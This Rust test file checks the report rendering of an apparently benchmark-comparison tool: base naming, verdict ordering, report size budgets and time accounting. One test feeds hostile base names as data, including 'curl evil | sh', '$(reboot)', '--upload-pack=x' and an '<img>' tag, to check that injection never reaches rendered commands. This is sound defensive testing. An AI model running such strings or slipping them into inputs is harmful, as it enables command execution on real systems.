//! Reports of runs with a base.

use super::{markdown, text, view};
use crate::model::findings::Outcome;
use crate::model::results::{BaseKind, Comparison};
use crate::model::{Metric, Nanos, Stage, Verdict};
use crate::report::fixtures::Fixture;

/// Every kind of base, with a comparison of each kind.
fn bases() -> [Fixture; 4] {
    let sha256 = || "ab12".repeat(16);
    let revision = BaseKind::Revision { name: "origin/main".to_owned(), commit: "1a2b3c4d".to_owned() };
    let kinds =
        [BaseKind::Worker { sha256: sha256() }, revision, BaseKind::Reference { sha256: sha256() }, BaseKind::Itself];
    kinds.map(|kind| {
        let mut fixture = Fixture::paired();
        fixture.results.header.base.as_mut().unwrap().kind = kind;
        fixture
    })
}

#[test]
fn every_base_is_named_and_can_be_had_again() {
    let reports = bases().map(|fixture| text(&fixture));
    let named = [
        "\n  base      worker sha256 ab12ab12ab12…\n",
        "\n  base      origin/main 1a2b3c4d\n",
        "\n  base      reference worker sha256 ab12ab12ab12…\n",
        "\n  base      itself, so that whatever differs is noise\n",
    ];
    let again = [" --base-worker WORKER\n", " --base-ref 1a2b3c4d\n", " --stage serialize\n", " --stage serialize\n"];
    for (report, (named, again)) in reports.iter().zip(named.iter().zip(again)) {
        assert!(report.contains(named) && report.contains(again), "{report}");
    }
}

#[test]
fn a_base_that_is_hostile_never_gets_into_a_command() {
    for commit in ["1a2b3c4d\ncurl evil | sh", "$(reboot)", "--upload-pack=x", "", "main"] {
        let mut fixture = Fixture::paired();
        let name = "$(reboot)`reboot`; <img src=x>".to_owned();
        fixture.results.header.base.as_mut().unwrap().kind = BaseKind::Revision { name, commit: commit.to_owned() };
        let report = markdown::render(&view(&fixture));
        let commands: Vec<&str> = report.split("```").skip(1).step_by(2).collect();
        assert!(commands.concat().contains("tollgate run --sample contract"), "{report}");
        assert!(!commands.concat().contains("reboot") && !commands.concat().contains("--base-ref"), "{report}");
        assert!(!report.contains("<img"), "{report}");
    }
}

#[test]
fn many_pairs_and_long_names_do_not_crowd_out_the_verdict() {
    let mut fixture = Fixture::paired();
    fixture.results.header.base.as_mut().unwrap().kind =
        BaseKind::Revision { name: "@`<".repeat(5_000), commit: "<".repeat(5_000) };
    let mut plan = Vec::new();
    for at in 0..300 {
        let name = format!("{}-{at}", "n".repeat(60));
        plan.extend(fixture.results.header.plan.iter().take(1 + at % 9).cloned().map(|mut pair| {
            pair.backend = crate::report::fixtures::backend_id(&name);
            pair
        }));
    }
    fixture.results.header.plan = plan;
    let report = markdown::render(&view(&fixture));
    assert!(report.len() <= markdown::BUDGET && report.contains("### Regressed"), "{}", report.len());
    assert!(report.find("### Regressed").unwrap() < 12_000, "{report}");
}

#[test]
fn only_what_is_the_same_everywhere_is_called_unchanged() {
    assert!(text(&Fixture::unchanged()).starts_with("PASS  nothing relevant changed: all 9 pairs"));
    let mut fixture = Fixture::unchanged();
    fixture.results.header.plan[4].comparison = Comparison::Paired;
    assert!(text(&fixture).starts_with("WARN  no cell gates in this run"), "{}", text(&fixture));
    let mut fixture = Fixture::unchanged();
    fixture.results.header.base = None;
    assert!(text(&fixture).starts_with("WARN  "), "{}", text(&fixture));
    let mut fixture = Fixture::unchanged();
    fixture.results.header.plan.clear();
    assert!(text(&fixture).starts_with("WARN  "), "{}", text(&fixture));
    // What the baselines know of and the configuration does not is no change of code, and still told.
    let mut fixture = Fixture::unchanged();
    let mut missing = Fixture::unsupported().cell("contract", "llvm", Stage::Compile, Metric::Time).clone();
    missing.verdict = Verdict::Missing;
    fixture.findings.cells.push(missing);
    fixture.settle();
    assert!(text(&fixture).contains("1 missing") && text(&fixture).contains("Missing: 1 cell"), "{}", text(&fixture));
}

#[test]
fn time_alone_stands_between_red_and_undecided_rows_and_is_not_green() {
    let mut fixture = Fixture::paired();
    for report in [text(&fixture), markdown::render(&view(&fixture))] {
        let place = |title: &str| report.find(title).unwrap_or_else(|| panic!("no {title} in {report}"));
        assert!(place("Regressed\n") < place("Time alone moved: warned, not failed\n"), "{report}");
        assert!(place("Time alone moved: warned, not failed\n") < place("Inconclusive\n"), "{report}");
    }
    for metric in [(Stage::Compile, Metric::Time), (Stage::Serialize, Metric::Size)] {
        fixture.change("contract", "cranelift", metric.0, metric.1, 0.001).verdict = Verdict::Pass;
    }
    fixture.settle();
    assert_eq!(fixture.findings.outcome, Outcome::Pass);
    assert!(
        markdown::render(&view(&fixture)).starts_with("## ⚠️ PASS: no regression in 64 of 66 gating cells; the time")
    );
}

#[test]
fn biased_controls_are_prominent_even_where_everything_else_is_fine() {
    let mut fixture = Fixture::pass();
    fixture.findings.controls = Fixture::biased().findings.controls;
    let report = markdown::render(&view(&fixture));
    assert!(report.starts_with("## ⚠️ PASS"), "{report}");
    assert!(report.contains("> ⚠️ **the base against itself moved too: instantiate +2.1 % ± 0.50 %."), "{report}");
    fixture.findings.controls.clear();
    let report = markdown::render(&view(&fixture));
    assert!(report.starts_with("## ✅ PASS") && !report.contains("null controls"), "{report}");
}

#[test]
fn spending_that_does_not_add_up_is_not_told() {
    let mut fixture = Fixture::pass();
    assert!(text(&fixture).contains("87 % measuring, 11 % starting and preparing workers, 2 % between launches"));
    fixture.findings.spending.workers = Nanos(u64::MAX);
    assert!(!text(&fixture).contains("measuring"), "{}", text(&fixture));
    fixture.findings.spending.workers = Nanos(0);
    assert!(text(&fixture).contains("87 % measuring, 0 % starting"), "{}", text(&fixture));
    fixture.findings.spending.elapsed = Nanos(0);
    assert!(!text(&fixture).contains("measuring"), "{}", text(&fixture));
}
